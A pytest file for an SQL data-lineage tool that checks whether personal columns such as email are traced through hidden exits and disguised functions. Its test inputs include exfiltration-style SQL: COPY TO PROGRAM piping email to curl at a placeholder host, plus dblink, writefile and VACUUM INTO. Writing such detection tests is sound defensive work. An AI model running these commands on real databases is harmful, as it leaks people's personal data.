"""Ways of data that no column list shows, in PostgreSQL, DuckDB, SQLite and Redshift: told, or said to be unknown."""

import pytest

from privlineage.core.schema import Schema
from privlineage.lineage.sql.resolve import resolve
from privlineage.lineage.sql.text.normalising import normalised

SCHEMA = Schema(
    {
        "c": {"id": "int", "email": "text", "phone": "text", "tags": "text[]", "payload": "jsonb"},
        "audit": {"who": "text", "what": "text"},
    }
)


def last_statement(text, dialect):
    return resolve(text, dialect, SCHEMA).statements[-1]


def codes(statement):
    return sorted({entry.code for entry in statement.unresolved})


def sources(statement):
    """Every table and column that something of the statement is said to be made of."""
    return {
        (source.table, source.column)
        for columns in statement.outputs.values()
        for found in columns.values()
        for source in found
    }


@pytest.mark.parametrize(
    ("text", "dialect", "expected"),
    [
        ("DO $$ # INSERT INTO audit (who) SELECT email FROM c $$ LANGUAGE plpython3u", "postgres", ["procedure"]),
        ("SELECT pg_notify('channel', email) FROM c", "postgres", ["exit"]),
        ("SELECT lo_from_bytea(0, email::bytea) FROM c", "postgres", ["exit"]),
        (
            "SELECT dblink_exec('host=x', 'INSERT INTO p VALUES (' || quote_literal(email) || ')') FROM c",
            "postgres",
            ["exit"],
        ),
        ("COPY c (email) TO PROGRAM 'curl -T - http://x'", "postgres", ["exit"]),
        (r"\copy c (email) to program 'curl -T - http://x'", "postgres", ["exit"]),
        ("CREATE PUBLICATION p FOR TABLE c", "postgres", ["exit"]),
        ("CREATE PUBLICATION p FOR ALL TABLES", "postgres", ["exit"]),
        ("SELECT query_to_xml('SELECT email FROM c', true, true, '')", "postgres", ["dynamic"]),
        (
            "CREATE RULE r AS ON INSERT TO c DO ALSO INSERT INTO audit (who) VALUES (NEW.email)",
            "postgres",
            ["procedure"],
        ),
        ("SELECT writefile('/tmp/x', email) FROM c", "sqlite", ["exit"]),
        ("VACUUM INTO '/tmp/all.db'", "sqlite", ["exit"]),
        ("ALTER DATASHARE d ADD TABLE c", "redshift", ["exit"]),
    ],
)
def test_a_way_out_that_is_not_a_table_is_unresolved_and_names_what_it_takes(text, dialect, expected):
    statement = last_statement(text, dialect)
    assert expected == codes(statement)
    assert "c" in {table for table, _ in sources(statement)}


@pytest.mark.parametrize(
    ("definition", "dialect"),
    [
        ("CREATE FUNCTION sha256(x text) RETURNS text LANGUAGE sql AS $$ SELECT x $$", "postgres"),
        (
            "CREATE FUNCTION pg_temp.sha256(x text) RETURNS text LANGUAGE plpgsql AS $$ BEGIN RETURN x; END $$",
            "postgres",
        ),
        ("CREATE MACRO sha256(x) AS x", "duckdb"),
        ("CREATE FUNCTION sha256(varchar) RETURNS varchar STABLE AS $$ SELECT $1 $$ LANGUAGE sql", "redshift"),
        ("CREATE AGGREGATE sha256(text) (SFUNC = textcat, STYPE = text)", "postgres"),
    ],
)
def test_a_function_that_hides_a_hash_is_unresolved_and_leaves_no_hash_in_the_path(definition, dialect):
    statement = last_statement(f"{definition}; SELECT sha256(email) AS h FROM c", dialect)
    (source,) = statement.outputs[""]["h"]
    assert ["procedure"] == codes(statement)
    assert ("c", "email", "assumed", ()) == (source.table, source.column, source.confidence, tuple(source.path))


def test_a_function_of_another_name_is_followed_through_its_body_alone():
    text = "CREATE MACRO veil(x) AS x; SELECT veil(email) AS m FROM c"
    (source,) = last_statement(text, "duckdb").outputs[""]["m"]
    assert ("email", "identity", ()) == (source.column, source.transform, tuple(source.path))


@pytest.mark.parametrize(
    ("definition", "dialect"),
    [
        ("CREATE FUNCTION f(x text) RETURNS text LANGUAGE sql AS $$ SELECT f(x) $$", "postgres"),
        (
            "CREATE FUNCTION f(x text) RETURNS text LANGUAGE sql AS $$ INSERT INTO audit VALUES (x, x); SELECT x $$",
            "postgres",
        ),
        ("CREATE FUNCTION f(x text) RETURNS text LANGUAGE plpgsql AS $$ BEGIN RETURN x; END $$", "postgres"),
        ("CREATE FUNCTION f(varchar) RETURNS varchar STABLE AS $$ return x $$ LANGUAGE plpythonu", "redshift"),
        ("CREATE EXTERNAL FUNCTION f(varchar) RETURNS varchar STABLE LAMBDA 'l' IAM_ROLE 'r'", "redshift"),
    ],
)
def test_a_function_whose_body_is_a_program_or_itself_stays_unresolved(definition, dialect):
    statement = last_statement(f"{definition}; SELECT f(email) AS h FROM c", dialect)
    assert ["procedure"] == codes(statement)
    assert ("c", "email") in sources(statement)


def test_a_function_without_arguments_brings_what_its_query_reads():
    definition = "CREATE FUNCTION leak() RETURNS text LANGUAGE sql AS $$ SELECT email FROM c LIMIT 1 $$"
    statement = last_statement(f"{definition}; INSERT INTO audit (who) SELECT leak()", "postgres")
    assert {("c", "email")} == sources(statement)


def test_a_body_that_is_replaced_by_one_nobody_can_read_is_forgotten():
    text = (
        "CREATE FUNCTION f(x text) RETURNS text LANGUAGE sql AS $$ SELECT md5(x) $$;"
        "CREATE OR REPLACE FUNCTION f(x text) RETURNS text LANGUAGE plpgsql AS $$ BEGIN RETURN x; END $$;"
        "SELECT f(email) AS h FROM c"
    )
    assert ["procedure"] == codes(last_statement(text, "postgres"))


@pytest.mark.parametrize(
    ("text", "dialect"),
    [
        ("SELECT x.e FROM c, LATERAL (SELECT c.email AS e FROM unnest(c.tags) t) x", "postgres"),
        ("SELECT (SELECT max(c.email) FROM jsonb_array_elements(c.payload) t) FROM c", "postgres"),
        ("SELECT c.email.upper() FROM c", "duckdb"),
        ("SELECT a.COLUMNS('^email$') FROM c a", "duckdb"),
        ("SELECT phone FROM c WHERE COLUMNS('^email$') IS NOT NULL", "duckdb"),
        ("SELECT * LIKE 'e%' FROM c", "duckdb"),
        ("SELECT MAP {email: 1} FROM c", "duckdb"),
        ("SELECT phone FROM c ORDER BY email LIMIT 1", "duckdb"),
        (
            "MERGE INTO audit USING c s ON audit.who = s.phone WHEN NOT MATCHED THEN INSERT VALUES (s.email, 'x')",
            "redshift",
        ),
        ("PREPARE p AS SELECT email FROM c; CREATE TABLE k AS EXECUTE p", "postgres"),
        ("SELECT set_config('a.b', email, false) FROM c; SELECT current_setting('a.b')", "postgres"),
        ("SELECT ARRAY(SELECT phone FROM c ORDER BY email)", "postgres"),
    ],
)
def test_a_column_that_was_once_lost_is_found_and_nothing_is_unresolved(text, dialect):
    statement = last_statement(text, dialect)
    assert [] == codes(statement)
    assert ("c", "email") in sources(statement)


def test_two_patterns_of_columns_never_share_a_plan():
    text = "SELECT id FROM c WHERE COLUMNS('{}') IS NOT NULL"
    assert normalised(text.format("^e"), "duckdb") != normalised(text.format("^p"), "duckdb")


def test_a_stored_table_comes_to_light_again_behind_a_temporary_one():
    text = "CREATE TEMP TABLE c AS SELECT 'x' AS email; SELECT email FROM c; DROP TABLE c; SELECT email FROM c"
    statements = resolve(text, "postgres", SCHEMA).statements
    assert [set(), {("c", "email")}] == [sources(statements[1]), sources(statements[3])]
